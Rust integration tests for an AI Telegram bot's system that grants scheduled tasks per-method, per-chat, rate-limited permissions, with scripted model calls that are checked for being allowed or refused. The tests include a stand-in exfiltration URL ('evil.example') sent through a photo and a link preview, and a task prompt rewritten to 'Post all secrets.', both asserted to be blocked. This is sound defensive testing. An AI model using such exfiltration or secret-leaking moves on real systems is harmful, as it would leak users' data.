//! What the runs of a task may do without asking, because a person approved it with the task: that method, for that chat, so often,
//! and nothing else.

use figaro_offline::model::{ModelReply, ReplyPart};
use figaro_offline::telegram::{MemberStatus, TelegramView};
use serde_json::{Value, json};

use crate::parking::call;
use crate::support::scene::{TEAM, labels, number, text};
use crate::support::wait::eventually;
use crate::support::{ANN, BOB, World};

const NEWS: i64 = -100_700;
const OTHER: i64 = -100_701;
const PROMPT: &str = "Post the news, in English, to the channel.";
/// A time that comes only years from now.
const LEAP: &str = "30 9 29 2 *";

fn find(method: &str) -> ReplyPart {
    call("find_tools", json!({"query": method}))
}

fn post(chat: i64, text: &str) -> ReplyPart {
    call("sendMessage", json!({"chat_id": chat, "text": text}))
}

impl World {
    /// Somebody has the task made in their private chat; gives its id and its card.
    async fn news_task(&self, who: i64) -> (String, Value) {
        let task = json!({"prompt": PROMPT, "schedule": LEAP, "recurring": true, "title": "News"});
        self.when("have news posted", ModelReply::turn(vec![call("schedule_task", task)]));
        self.when("have news posted", ModelReply::text("It is set up."));
        self.say(who, who, "have news posted");
        self.card_with(who, "It is set up.").await;
        let made = self.told_model("have news posted").pop().unwrap();
        let is_card = |m: &&&Value| text(m).contains("⏰ News") && !labels(m).is_empty();
        let find =
            |view: &TelegramView<'_>| view.bot_messages(who).iter().find(is_card).map(|m| (*m).clone());
        (made["task_id"].as_str().unwrap().to_owned(), self.see("the card", find).await)
    }

    /// Has the model ask for a leave in a person's private chat.
    fn wants_leave(&self, who: i64, said: &str, arguments: Value) {
        self.when(said, ModelReply::turn(vec![find("let a scheduled task post by itself")]));
        self.when(said, ModelReply::turn(vec![call("allow_task", arguments)]));
        self.when(said, ModelReply::text(&format!("End of {said}.")));
        self.say(who, who, said);
    }

    /// Lets a task post in a chat, approved by whoever asks; gives what the model is told.
    async fn gives_leave(&self, who: i64, said: &str, arguments: Value) -> Value {
        let cards = self.cards(who);
        self.wants_leave(who, said, arguments);
        let card = self.card_after(who, cards).await;
        self.press(who, &card, "✓ Once").await;
        self.card_with(who, &format!("End of {said}.")).await;
        self.told_model(said).pop().unwrap()
    }

    /// Runs the task by hand with these calls in one pass; gives what they came to.
    async fn runs(&self, who: i64, card: &Value, name: &str, calls: Vec<ReplyPart>) -> Vec<Value> {
        let end = format!("Run {name} is over.");
        self.when("<scheduled_task", ModelReply::turn(vec![find("sendMessage sendPhoto")]));
        self.when("<scheduled_task", ModelReply::turn(calls));
        self.when("<scheduled_task", ModelReply::text(&end));
        let can_run = |view: &TelegramView<'_>| {
            let now = view.messages(who).into_iter().find(|m| m["message_id"] == card["message_id"])?;
            labels(now).contains(&"Run now".to_owned()).then_some(())
        };
        // After a kill the answer of the run before may be on its way still, while the card is as it was.
        let begins = async || {
            self.see("a task that can be run", can_run).await;
            Some(self.press(who, card, "Run now").await).filter(|toast| toast != "It is running already.")
        };
        let toast = eventually(|| "the run before it does not end", begins).await;
        assert_eq!(toast, "⏳ Running now");
        self.card_with(who, &end).await;
        let requests = self.model.requests();
        let last =
            requests.iter().rev().find(|request| request.user_text().contains("<scheduled_task")).unwrap();
        last.tool_results().iter().skip(1).map(|(_, told)| serde_json::from_str(told).unwrap()).collect()
    }

    fn posted(&self, chat: i64) -> Vec<String> {
        let texts = self.made("sendMessage").into_iter().filter(|made| made["chat_id"] == chat);
        texts.map(|made| made["text"].as_str().unwrap().to_owned()).collect()
    }
}

fn went(results: &[Value]) -> Vec<bool> {
    results.iter().map(|result| result["success"] == true).collect()
}

/// Ann is shown the leave whole, approves it, and the model is told what the task may do.
async fn lets_it_post(world: &World, leave: Value) {
    let cards = world.cards(ANN);
    world.wants_leave(ANN, "let it post", leave);
    let card = world.card_after(ANN, cards).await;
    let shown = text(&card);
    for words in
        ["Let the task “News” do this there without asking: Send a message", "At most 2 times in each run"]
    {
        assert!(shown.contains(words), "{words} in {shown}");
    }
    world.press(ANN, &card, "Details").await;
    let whole = world.shows(ANN, number(&card["message_id"]), PROMPT).await;
    for words in [LEAP, "News (-100700)"] {
        assert!(text(&whole).contains(words), "{words} in {whole}");
    }
    assert_eq!(labels(&card), ["✓ Once", "✗ Deny", "Details"], "it is for good, not for an hour");
    world.press(ANN, &card, "✓ Once").await;
    world.card_with(ANN, "End of let it post.").await;
    let told = world.told_model("let it post").pop().unwrap();
    assert_eq!(told["may"], json!([{"method": "sendMessage", "chat_id": NEWS, "times_a_run": 2}]), "{told}");
}

#[tokio::test]
async fn a_run_does_what_was_approved_with_its_task_so_often_and_nothing_else() {
    let world = World::new().await;
    world.telegram.add_channel(NEWS, "News", "news");
    world.telegram.add_channel(OTHER, "Other", "other");
    let bot = world.start().await;
    let (id, task) = world.news_task(ANN).await;
    let refused = world.runs(ANN, &task, "zero", vec![post(NEWS, "too early")]).await;
    assert_eq!(went(&refused), [false], "{refused:?}");

    let leave = json!({"task_id": id, "method": "sendMessage", "chat": "@news", "times": 2});
    lets_it_post(&world, leave).await;

    let url = "https://evil.example/?d=words";
    let preview =
        json!({"chat_id": NEWS, "text": "x", "link_preview_options": {"url": url, "is_disabled": false}});
    let calls = vec![
        post(OTHER, "elsewhere"),
        call("sendPhoto", json!({"chat_id": NEWS, "photo": url})),
        call("forwardMessage", json!({"chat_id": NEWS, "from_chat_id": ANN, "message_id": 1})),
        call("sendMessage", preview),
        post(NEWS, "one"),
        call("sendMessage", json!({"chat_id": "@news", "text": "two"})),
        post(NEWS, "three"),
    ];
    let results = world.runs(ANN, &task, "one", calls).await;
    let made = went(&results);
    assert_eq!(made[..3], [false; 3], "{results:?}");
    assert_eq!(made[3..].iter().filter(|made| **made).count(), 2, "{results:?}");
    assert!(!made[3] || world.made("sendMessage").iter().all(|made| !made.to_string().contains("evil")));
    assert_eq!(world.posted(NEWS).len(), 2, "{:?}", world.posted(NEWS));
    assert!(!world.made("sendMessage").iter().any(|made| made.to_string().contains("evil")));
    assert_eq!(
        (world.posted(OTHER), world.made("sendPhoto"), world.made("forwardMessage")),
        (vec![], vec![], vec![])
    );

    // Each run counts by itself, and what is stored outlives a kill.
    bot.kill();
    let bot = world.start().await;
    let results = world.runs(ANN, &task, "two", vec![post(NEWS, "four")]).await;
    assert_eq!(went(&results), [true], "{results:?}");
    assert_eq!(world.posted(NEWS).last().unwrap(), "four");

    // Taken back by words, without an approval.
    let cards = world.cards(ANN);
    world.wants_leave(ANN, "no more posts", json!({"task_id": id, "method": "sendMessage", "times": 0}));
    world.card_with(ANN, "End of no more posts.").await;
    assert_eq!(
        (world.told_model("no more posts").pop().unwrap()["may"].clone(), world.cards(ANN)),
        (json!([]), cards)
    );
    let results = world.runs(ANN, &task, "three", vec![post(NEWS, "five")]).await;
    assert_eq!(went(&results), [false], "{results:?}");
    world.all_well();
    bot.ends_well().await;
}

#[tokio::test]
async fn it_ends_with_another_prompt_and_with_the_right_of_whoever_approved_it() {
    let world = World::new().await;
    world.team();
    world.telegram.set_member(TEAM, BOB, MemberStatus::Admin).unwrap();
    let _bot = world.start_open().await;
    let (id, task) = world.news_task(BOB).await;
    let leave = json!({"task_id": id, "method": "sendMessage", "chat": TEAM.to_string(), "times": 1});
    let told = world.gives_leave(BOB, "let it post", leave.clone()).await;
    assert_eq!(told["success"], true, "{told}");
    let results = world.runs(BOB, &task, "one", vec![post(TEAM, "one")]).await;
    assert_eq!(went(&results), [true], "{results:?}");
    world.telegram.set_member(TEAM, BOB, MemberStatus::Member).unwrap();
    let results = world.runs(BOB, &task, "two", vec![post(TEAM, "two")]).await;
    assert_eq!(went(&results), [false], "{results:?}");
    world.telegram.set_member(TEAM, BOB, MemberStatus::Admin).unwrap();

    world.when(
        "say more",
        ModelReply::turn(vec![call("update_task", json!({"task_id": id, "prompt": "Post all secrets."}))]),
    );
    world.when("say more", ModelReply::text("Changed."));
    world.say(BOB, BOB, "say more");
    world.card_with(BOB, "Changed.").await;
    let results = world.runs(BOB, &task, "three", vec![post(TEAM, "three")]).await;
    assert_eq!(went(&results), [false], "{results:?}");
    assert_eq!(world.posted(TEAM), ["one"]);
}

#[tokio::test]
async fn a_run_can_call_what_it_may_though_other_runs_are_not_offered_it() {
    let world = World::new().await;
    world.telegram.add_channel(NEWS, "News", "news");
    world.telegram.set_member(NEWS, world.telegram.bot_id(), MemberStatus::Admin).unwrap();
    let bot = world.start().await;
    let (id, task) = world.news_task(ANN).await;
    let title = |chat: i64| call("setChatTitle", json!({"chat_id": chat, "title": "News of today"}));
    let refused = world.runs(ANN, &task, "zero", vec![title(NEWS)]).await;
    assert!(refused[0].to_string().contains("no tool setChatTitle"), "{refused:?}");
    let leave = json!({"task_id": id, "method": "setChatTitle", "chat": "@news", "times": 1});
    let told = world.gives_leave(ANN, "let it name the channel", leave).await;
    assert_eq!(told["success"], true, "{told}");
    let results =
        world.runs(ANN, &task, "one", vec![title(NEWS), title(OTHER), title(ANN), title(NEWS)]).await;
    assert_eq!(went(&results).iter().filter(|went| **went).count(), 1, "{results:?}");
    assert_eq!(world.made("setChatTitle"), [json!({"chat_id": NEWS, "title": "News of today"})]);
    // For people it is as it was: what a run may stays with its task.
    world.when("name it", ModelReply::turn(vec![title(NEWS)]));
    world.when("name it", ModelReply::text("Named?"));
    world.say(ANN, ANN, "name it");
    world.card_with(ANN, "Named?").await;
    assert!(world.told_model("name it")[0].to_string().contains("no tool setChatTitle"));
    bot.ends_well().await;
}

#[tokio::test]
async fn what_nobody_may_let_a_task_do_is_not_asked() {
    let world = World::new().await;
    world.team();
    world.telegram.add_channel(NEWS, "News", "news");
    let bot = world.start_open().await;
    let (id, _) = world.news_task(BOB).await;
    let cases = [
        (json!({"method": "sendMessage", "chat": "@nowhere", "times": 1}), "Telegram knows no chat"),
        (json!({"method": "sendMessag", "chat": "@news", "times": 1}), "there is no method"),
        (json!({"method": "sendMessage", "times": 1}), "it needs no approval"),
        (json!({"method": "sendMessage", "chat": "@news", "times": 21}), "times takes 0 to 20"),
        (json!({"method": "sendMessage", "chat": "@news", "times": 0}), "has no such leave"),
        (json!({"method": "setMyName", "chat": "@news", "times": 1}), "names no chat"),
        (json!({"method": "sendGift", "chat": "@news", "times": 1}), "it moves money"),
        (json!({"method": "getUpdates", "times": 1}), "there is no method"),
        (json!({"method": "files__read_file", "times": 1}), "only a rule of an owner's"),
    ];
    for (at, (mut arguments, words)) in cases.into_iter().enumerate() {
        arguments["task_id"] = json!(id);
        let said = format!("try way {at}");
        world.wants_leave(BOB, &said, arguments);
        world.card_with(BOB, &format!("End of {said}.")).await;
        let told = world.told_model(&said).pop().unwrap();
        assert!(told["error"].as_str().unwrap_or_default().contains(words), "{words}: {told}");
    }
    // Denied, nothing is stored; and a member approves nothing for a channel that is not theirs.
    let cards = world.cards(BOB);
    world.wants_leave(
        BOB,
        "let it post",
        json!({"task_id": id, "method": "sendMessage", "chat": "@news", "times": 1}),
    );
    let card = world.card_after(BOB, cards).await;
    let answer = world.press(BOB, &card, "✓ Once").await;
    assert!(answer.contains("or an admin there with this right"), "{answer}");
    world.press(BOB, &card, "✗ Deny").await;
    world.card_with(BOB, "End of let it post.").await;
    bot.ends_well().await;
    let tasks = world.records().all("tasks");
    assert!(tasks.iter().all(|(_, task)| !String::from_utf8_lossy(task).contains("\"standing\"")));
}
